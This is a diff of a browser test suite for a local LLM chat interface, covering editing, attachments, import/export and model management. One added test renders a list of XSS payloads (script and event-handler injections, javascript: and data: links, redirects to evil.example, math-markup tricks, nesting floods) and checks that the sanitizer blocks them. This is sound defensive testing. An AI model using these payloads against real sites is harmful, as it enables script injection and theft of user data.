@@ -54,7 +54,7 @@ describe("the path / of the server", () => {
     },
   );
 
-  it("sends less than 60 kB for the whole page, and 304 for what the browser has", async () => {
+  it("sends less than 200 kB for the whole page, and 304 for what the browser has", async () => {
     const names = [
       ...(await (await fetch(`${server.url}/`, { headers: html })).text()).matchAll(/"\/page\/([^"]+)"/g),
     ].map(([, name]) => name!);
@@ -72,10 +72,12 @@ describe("the path / of the server", () => {
       expect(again.status).toBe(304);
       const text = await answer.text();
       if (name.endsWith(ending))
-        for (const [, imported] of text.matchAll(/from "\.\/([^"]+)"/g)) seen.add(imported!);
+        for (const [, imported] of text.matchAll(/"(?:\.\/|\/page\/)([\w-]+\.(?:ts|js))"/g))
+          seen.add(imported!);
     }
-    expect(seen.size).toBeGreaterThan(10);
-    expect(bytes).toBeLessThan(60_000);
+    // The libraries for formulas and colours, too, which are loaded with the first formula and the first code.
+    expect([...seen]).toEqual(expect.arrayContaining(["markdown-it.js", "temml.js", "highlight.js"]));
+    expect(bytes).toBeLessThan(200_000);
   });
 
   it.each([
@@ -150,7 +152,7 @@ describe.skipIf(!chromiumPath)("the chat page, in Debian's chromium", () => {
     const first = await page.locator(".assistant > .text").textContent();
 
     await setOptions(page, { seed: "4" });
-    await page.getByRole("button", { name: "Regenerate" }).click();
+    await page.getByRole("button", { name: "Regenerate" }).last().click();
     // The click removes the first answer before the second one arrives.
     await page.getByText(/12 tokens/).waitFor();
     const second = await page.locator(".assistant > .text").last().textContent();
@@ -162,12 +164,13 @@ describe.skipIf(!chromiumPath)("the chat page, in Debian's chromium", () => {
     await expect.poll(() => page.locator("#conversations li").count()).toBe(1);
 
     const download = page.waitForEvent("download");
-    await page.click("#open-export");
+    await page.click("#open-transfer");
     await page.click("#export-json");
     const saved = JSON.parse(await readFile(await (await download).path(), "utf8")) as {
       messages: { role: string }[];
     };
     expect(saved.messages.map(({ role }) => role)).toEqual(["user", "assistant"]);
+    await page.keyboard.press("Escape");
 
     page.once("dialog", (dialog) => void dialog.accept());
     await page.locator("#conversations li button").last().click();
@@ -207,14 +210,15 @@ describe.skipIf(!chromiumPath)("the chat page, in Debian's chromium", () => {
     expect(await message.locator("ul ul li").textContent()).toBe("inner");
     expect(await message.locator("td").allTextContents()).toEqual(["1", "x"]);
     expect(await message.locator("pre code").first().textContent()).toBe("let a = 1;");
+    await message.locator(".hl-keyword", { hasText: "let" }).waitFor();
     expect(await message.locator("script").count()).toBe(0);
     expect(
       await message.locator("a").evaluateAll((links) => links.map((link) => link.getAttribute("href"))),
     ).toEqual(["https://example.com"]);
     await message.getByRole("textbox").fill("sunny");
     await message.getByRole("button", { name: "Send result" }).click();
-    await page.getByText(/tokens/).waitFor();
-    expect(await page.locator(".tool pre, .message.tool pre").allTextContents()).toContain("sunny");
+    await page.locator(".notes", { hasText: "tokens" }).waitFor();
+    expect(await page.locator(".message.tool pre").allTextContents()).toContain("sunny");
     await context.close();
   });
 
@@ -229,7 +233,10 @@ describe.skipIf(!chromiumPath)("the chat page, in Debian's chromium", () => {
     await expect.poll(() => page.locator("#send").textContent()).toBe("停止");
     await page.reload();
     await page.locator(".user", { hasText: "go on" }).waitFor();
-    await page.getByRole("button", { name: /重试|重新生成/ }).waitFor();
+    await page
+      .getByRole("button", { name: /重试|重新生成/ })
+      .last()
+      .waitFor();
     await context.close();
   });
 
@@ -250,7 +257,7 @@ describe.skipIf(!chromiumPath)("the chat page, in Debian's chromium", () => {
       });
       await route.continue().catch(() => {});
     });
-    await page.getByRole("button", { name: "Regenerate" }).click();
+    await page.getByRole("button", { name: "Regenerate" }).last().click();
     await page.locator("#conversations .open").last().click();
     goOn();
     await page.getByText("other answer").waitFor();
@@ -356,7 +363,7 @@ describe.skipIf(!chromiumPath)("the chat page, in Debian's chromium", () => {
     ].join("\n\n");
     await keepConversation(page, asked(hard));
     await page.reload();
-    await page.getByRole("button", { name: "Regenerate" }).waitFor();
+    await page.getByRole("button", { name: "Regenerate" }).last().waitFor();
     expect(await page.locator(".assistant ul").count()).toBeLessThan(20);
     // The paragraph is as wide as the page, and its text is at the right.
     const [left, middle] = await page.getByText("שלום.").evaluate((box) => {
@@ -409,15 +416,16 @@ describe.skipIf(!chromiumPath)("the chat page, in Debian's chromium", () => {
     await server.ask("/api/create", { model: "seeing", remotes, info, stream: false });
     const { context, page } = await open();
     await page.selectOption("#model", "small:a");
-    await page.locator("#attach").waitFor({ state: "hidden" });
-    await page.selectOption("#model", "seeing:latest");
-    await page.locator("#attach").waitFor();
     const pixel =
       "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
     const files = ["one.png", "two.png"].map((name) => ({
       ...{ name, mimeType: "image/png" },
       buffer: Buffer.from(pixel, "base64"),
     }));
+    await page.setInputFiles("#files", files);
+    await page.locator("#attach-problem", { hasText: "does not see pictures" }).waitFor();
+    expect(await page.locator("#attached img").count()).toBe(0);
+    await page.selectOption("#model", "seeing:latest");
     await page.setInputFiles("#files", files);
     await page.getByRole("button", { name: "Remove image" }).last().click();
     await page.check("#think");
@@ -443,25 +451,223 @@ describe.skipIf(!chromiumPath)("the chat page, in Debian's chromium", () => {
     await context.close();
   });
 
+  it("keeps an edited question and another model's answer as versions, and goes on with a cut answer", async () => {
+    const { context, page } = await open();
+    await keepConversation(page, asked("the old answer"), { options: { num_predict: 4, seed: 1 } });
+    await page.reload();
+    await page.locator(".user").getByRole("button", { name: "Edit" }).click();
+    await page.keyboard.type(", changed");
+    await page.keyboard.press("Enter");
+    await page.getByText(/4 tokens/).waitFor();
+    expect(await page.locator(".user > .text").textContent()).toBe("question, changed");
+    const cut = (await page.locator(".assistant > .text").textContent())!;
+    await page.getByRole("button", { name: "Continue" }).click();
+    await expect
+      .poll(async () => (await page.locator(".assistant > .text").textContent())!.length)
+      .toBeGreaterThan(cut.length);
+    expect((await page.locator(".assistant > .text").textContent())!.startsWith(cut.trimEnd())).toBe(true);
+    await page.getByRole("button", { name: "Continue" }).waitFor();
+    await page.selectOption(".assistant select", "small:b");
+    await page.locator(".assistant .versions", { hasText: "2 / 2" }).waitFor();
+    expect(await page.locator(".assistant h2").textContent()).toBe("small:b");
+
+    await page.locator(".user").getByRole("button", { name: "Version before" }).click();
+    await page.getByText("the old answer").waitFor();
+    await page.reload();
+    await page.getByText("the old answer").waitFor();
+    await page.locator(".user").getByRole("button", { name: "Next version" }).click();
+    await page.locator(".assistant .versions", { hasText: "2 / 2" }).waitFor();
+    await page.locator(".assistant").getByRole("button", { name: "Version before" }).click();
+    expect(await page.locator(".assistant h2").textContent()).toBe("small:tools");
+    // The arrow in the empty box edits the last question; Escape leaves it as it was.
+    await page.focus("#question");
+    await page.keyboard.press("ArrowUp");
+    await page.keyboard.type("x");
+    await page.keyboard.press("Escape");
+    expect(await page.locator(".user > .text").textContent()).toBe("question, changed");
+    await context.close();
+  });
+
+  it("takes text files by button, paste and drop, counts their tokens, and refuses what is no text", async () => {
+    const { context, page } = await open();
+    await page.selectOption("#model", "small:a");
+    await setOptions(page, { num_predict: "4", num_ctx: "256" });
+    const file = (name: string, bytes: Buffer) => ({ name, mimeType: "", buffer: bytes });
+    await page.setInputFiles("#files", [
+      file("a.txt", Buffer.from("hello")),
+      // GB 18030 for two Chinese characters.
+      file("b.txt", Buffer.from([0xc4, 0xe3, 0xba, 0xc3])),
+      file("c.bin", Buffer.from([0, 1, 2, 3])),
+      file("d.pdf", Buffer.from("%PDF-1.7")),
+    ]);
+    await page.locator("#attach-problem", { hasText: "d.pdf is not a text file" }).waitFor();
+    await page.locator("#attached li", { hasText: /a\.txt\s*\d+ tokens/ }).waitFor();
+    for (const [kind, target] of [
+      ["paste", "#question"],
+      ["drop", "#main"],
+    ])
+      await page.evaluate(`{
+        const data = new DataTransfer();
+        data.items.add(new File(["y".repeat(300)], "${kind}.md"));
+        const more = { bubbles: true, cancelable: true };
+        const event = "${kind}" === "drop" ? new DragEvent("drop", { ...more, dataTransfer: data })
+          : new ClipboardEvent("paste", { ...more, clipboardData: data });
+        document.querySelector("${target}").dispatchEvent(event);
+      }`);
+    await page.locator("#attached li", { hasText: "drop.md" }).waitFor();
+    await page.locator("#window", { hasText: "The files do not fit the window." }).waitFor();
+    await page.locator("#window button").click();
+    await page.locator("#window", { hasText: "of 2,048 tokens" }).waitFor();
+    const sent = page.waitForRequest("**/api/chat");
+    await page.fill("#question", "what?");
+    await page.keyboard.press("Enter");
+    const body = (await sent).postDataJSON() as { messages: { content: string }[]; options: object };
+    expect(body.options).toMatchObject({ num_ctx: 2048 });
+    expect(body.messages[0]!.content).toContain('<file name="b.txt">\n你好\n</file>');
+    expect(body.messages[0]!.content.endsWith("what?")).toBe(true);
+    await page.locator("#window", { hasText: /of 2,048 tokens/ }).waitFor();
+    await page.getByText(/first word after .* prompt \d+ tokens/).waitFor();
+    await context.close();
+  });
+
+  it("finds, renames and imports conversations, and goes everywhere by Ctrl-K", async () => {
+    const { context, page } = await open();
+    for (const [id, answer] of [
+      ["one", "about tea"],
+      ["two", "about coffee"],
+    ] as const)
+      await keepConversation(page, asked(answer), { id });
+    await page.reload();
+    const items = page.locator("#conversations li");
+    await expect.poll(() => items.count()).toBe(2);
+    await page.fill("#search", "COFFEE");
+    await expect.poll(() => items.count()).toBe(1);
+    await page.keyboard.press("ArrowDown");
+    await page.keyboard.press("Enter");
+    await page.locator(".assistant", { hasText: "about coffee" }).waitFor();
+    await page.getByRole("button", { name: "Rename conversation" }).click();
+    await page.keyboard.type("Beans");
+    await page.keyboard.press("Enter");
+    await page.fill("#search", "");
+    await page.locator("#conversations .open", { hasText: "Beans" }).waitFor();
+
+    await page.keyboard.press("Control+k");
+    await page.keyboard.type("tea");
+    await page.keyboard.press("Enter");
+    await page.locator(".assistant", { hasText: "about tea" }).waitFor();
+    await page.keyboard.press("Control+k");
+    await page.keyboard.type("small:");
+    await page.keyboard.press("ArrowDown");
+    await page.keyboard.press("ArrowDown");
+    const wanted = await page.locator("[aria-selected=true] .label").textContent();
+    await page.keyboard.press("Enter");
+    await expect.poll(() => page.locator("#model").inputValue()).toBe(wanted);
+
+    await page.click("#open-transfer");
+    const download = page.waitForEvent("download");
+    await page.click("#export-all");
+    const all = await readFile(await (await download).path());
+    await page.setInputFiles("#import-files", { name: "bad.json", mimeType: "", buffer: Buffer.from("[1]") });
+    await page.locator("#transfer-status.problem", { hasText: "bad.json" }).waitFor();
+    const markdown = Buffer.from("# Read\n\nModel: m\n\n## user\n\nhi\n\n## assistant\n\nho\n");
+    await page.setInputFiles("#import-files", [
+      { name: "all.json", mimeType: "", buffer: all },
+      { name: "one.md", mimeType: "", buffer: markdown },
+    ]);
+    await page.locator("#transfer-status", { hasText: "3 conversations added." }).waitFor();
+    await expect.poll(() => items.count()).toBe(5);
+    await context.close();
+  });
+
+  it("begins with the model, three questions, or a catalogue that fits, and loads, unloads and deletes models", async () => {
+    const { context, page } = await open();
+    await page.selectOption("#model", "small:a");
+    await page.locator(".welcome .card", { hasText: "llama" }).waitFor();
+    await setOptions(page, { num_predict: "3" });
+    await page.locator(".start").nth(2).click();
+    await page.getByText(/3 tokens/).waitFor();
+    expect(await page.locator(".user > .text").textContent()).toContain("Compare tea");
+    await server.post("/api/copy", { source: "small:a", destination: "small:copy" });
+    await page.click("#open-models");
+    const rowOf = (name: string) => page.locator("#model-list > li").filter({ hasText: name });
+    const row = rowOf("small:b");
+    await row.getByRole("button", { name: "Load", exact: true }).click();
+    await row.locator(".chip.on").waitFor();
+    await row.locator("summary").click();
+    await row.locator(".code-head", { hasText: "Template" }).waitFor();
+    await row.getByRole("button", { name: "Unload" }).click();
+    await row.getByRole("button", { name: "Load", exact: true }).waitFor();
+    page.once("dialog", (dialog) => void dialog.accept());
+    await rowOf("small:copy").getByRole("button", { name: "Delete" }).click();
+    await expect.poll(() => rowOf("small:copy").count()).toBe(0);
+    await context.close();
+
+    const empty = await startServerHere({});
+    const { context: other, page: first } = await open({ url: empty.url, locale: "zh-CN" });
+    await first.locator(".offer", { hasText: "smollm2:135m" }).getByRole("button").waitFor();
+    const { memory, models } = (await (await fetch(`${empty.url}/api/catalogue`)).json()) as {
+      memory: { available: number };
+      models: { needs: number; fits: boolean }[];
+    };
+    for (const { needs, fits } of models) expect(fits).toBe(needs <= memory.available);
+    await other.close();
+    await empty.stop();
+  });
+
+  it("runs, loads and opens nothing that 200 hostile answers contain", async () => {
+    const { context, page } = await open();
+    const answers = hostileAnswers();
+    expect(answers.length).toBeGreaterThanOrEqual(200);
+    await keepConversation(
+      page,
+      answers.flatMap((content, index) => [
+        { role: "user", content: `question ${index}` },
+        { role: "assistant", content: `${content}\n\nend ${index}` },
+      ]),
+    );
+    await page.reload();
+    await page.getByText(`end ${answers.length - 1}`).waitFor();
+    await page.locator(".math math, .math[title]").first().waitFor({ state: "attached" });
+    await page.locator("[class^=hl-]").first().waitFor({ state: "attached" });
+    const found = await page.evaluate<{ faults: string[]; ends: number; hacked: unknown }>(`(() => {
+      const faults = [];
+      for (const one of document.querySelectorAll("#log .text *, #log .foot *")) {
+        if (/^(script|iframe|object|embed|img|svg|video|audio|link|meta|base|style|form|input)$/i.test(one.localName))
+          faults.push(one.outerHTML);
+        for (const { name, value } of one.attributes)
+          if (/^on/i.test(name) || /javascript:|data:|vbscript:/i.test(value) && name !== "title" ||
+            (/^(href|src|xlink:href|action)$/i.test(name) && !/^(https?|mailto):/i.test(value)))
+            faults.push(one.outerHTML);
+      }
+      const ends = [...document.querySelectorAll(".assistant > .text")].filter((one, index) =>
+        one.textContent.includes("end " + index)).length;
+      return { faults, ends, hacked: globalThis.hacked };
+    })()`);
+    expect(found).toEqual({ faults: [], ends: answers.length, hacked: undefined });
+    expect(await page.title()).toBe("locallm");
+    await context.close();
+  });
+
   it("pulls a model with progress, and shows why a pull failed", async () => {
     const registry = await fakeRegistry();
     registry.publish("library/pulled:1", smallLlama(3));
     registry.paceMs = 20;
     const { context, page } = await open();
     await page.click("#open-models");
-    await page.getByRole("cell", { name: "small:b" }).waitFor();
+    const listed = page.locator("#model-list > li");
+    await listed.filter({ hasText: "small:b" }).waitFor();
     await page.fill("#pull-name", `${registry.host}/library/pulled:1`);
     await page.keyboard.press("Enter");
-    await page.locator("#pull-progress[value]").waitFor();
-    await page.locator("#pull-status", { hasText: "is ready" }).waitFor();
-    await page.getByRole("cell", { name: "pulled:1" }).waitFor();
+    await page.locator("#pull-progress progress[value]").waitFor();
+    await page.locator("#pull-progress", { hasText: "is ready" }).waitFor();
+    await listed.filter({ hasText: "pulled:1" }).waitFor();
     await expect
       .poll(async () => (await page.locator("#model option").allTextContents()).join())
       .toContain("pulled:1");
     await registry.close();
     await page.fill("#pull-name", "127.0.0.1:9/none/such");
     await page.keyboard.press("Enter");
-    await expect.poll(() => page.locator("#pull-status.problem").textContent()).toContain("127.0.0.1:9");
+    await expect.poll(() => page.locator("#pull-progress .problem").textContent()).toContain("127.0.0.1:9");
     await context.close();
   });
 
@@ -492,12 +698,16 @@ describe.skipIf(!chromiumPath)("the chat page, in Debian's chromium", () => {
       },
     ]);
     await page.reload();
-    await page.getByRole("button", { name: "Regenerate" }).waitFor();
+    await page.getByRole("button", { name: "Regenerate" }).last().waitFor();
     expect(await axe(page)).toEqual([]);
     const width = await page.evaluate<number>("document.documentElement.scrollWidth");
     expect(width).toBeLessThanOrEqual(look.width);
-    for (const name of ["models", "settings", "export", "key"]) {
-      await page.evaluate(`document.getElementById("${name}").showModal()`);
+    for (const name of ["models", "settings", "transfer", "palette", "key"]) {
+      const button = page.locator(`#open-${name}`);
+      if ((await button.count()) > 0)
+        await button.evaluate((one) => (one as unknown as { click(): void }).click());
+      else await page.evaluate(`document.getElementById("${name}").showModal()`);
+      if (name === "models") await page.locator("#catalogue li").first().waitFor();
       expect([name, ...(await axe(page))]).toEqual([name]);
       await page.keyboard.press("Escape");
     }
@@ -529,6 +739,55 @@ async function keepConversation(page: Page, messages: readonly object[], more: o
       table.put(${JSON.stringify(kept)}).onsuccess = () => resolve(opening.result.close());
     };
   })`);
+}
+
+/** Each attack, in each place where Markdown could let it through. */
+function hostileAnswers(): string[] {
+  const attacks = [
+    "<script>hacked=1</script>",
+    "<img src=x onerror=hacked=1>",
+    "<svg onload=hacked=1><animate onbegin=hacked=1>",
+    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
+    "<a href=javascript:hacked=1>x</a>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example/>",
+    "<style>@import 'https://evil.example/x.css'</style>",
+    "<form action=https://evil.example><input name=x autofocus onfocus=hacked=1>",
+    "<math href=javascript:hacked=1><mtext></mtext></math>",
+    "<details open ontoggle=hacked=1>",
+    "![x](https://evil.example/p.png)",
+    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
+    "[x](javascript:hacked=1)",
+    "[x](java\tscript:hacked=1)",
+    "[x](&#106;avascript:hacked=1)",
+    "[x](data:text/html,<script>hacked=1</script>)",
+    "[x](vbscript:hacked)",
+    "<javascript:hacked=1>",
+    '[x](https://ok.example "onmouseover=hacked=1")',
+    "[x]: javascript:hacked=1\n\n[x]",
+    "$\\href{javascript:hacked=1}{x}$",
+    "$\\includegraphics{https://evil.example/p.png}$",
+    "$\\def\\a{\\a\\a}\\a$",
+    "$\\rule{99999em}{99999em}\\class{x}{y}\\style{color:red}{z}$",
+    "$$x^{2}$$ $\\htmlData{onclick=hacked=1}{x}$",
+    "$".repeat(3000),
+    "\\[".repeat(3000),
+    "[".repeat(3000) + "](".repeat(3000),
+    `${"*_".repeat(3000)}x${"_*".repeat(3000)}`,
+    `${"|a".repeat(2000)}|\n${"|-".repeat(2000)}|`,
+    `${"<".repeat(2000)}!--`,
+    "\u202e<img src=x>\u0000\ufeff\ud800",
+  ];
+  const places: ((attack: string) => string)[] = [
+    (attack) => attack,
+    (attack) => `> ${attack}`,
+    (attack) => `- ${attack}\n  - ${attack}`,
+    (attack) => `| ${attack} |\n|---|\n| ${attack} |`,
+    (attack) => `\`\`\`html\n${attack}\n\`\`\``,
+    (attack) => `# **${attack}**`,
+    (attack) => `\`\`\`"><img src=x onerror=hacked=1>\n${attack}`,
+  ];
+  return attacks.flatMap((attack) => places.map((place) => place(attack)));
 }
 
 function asked(answer: string): object[] {
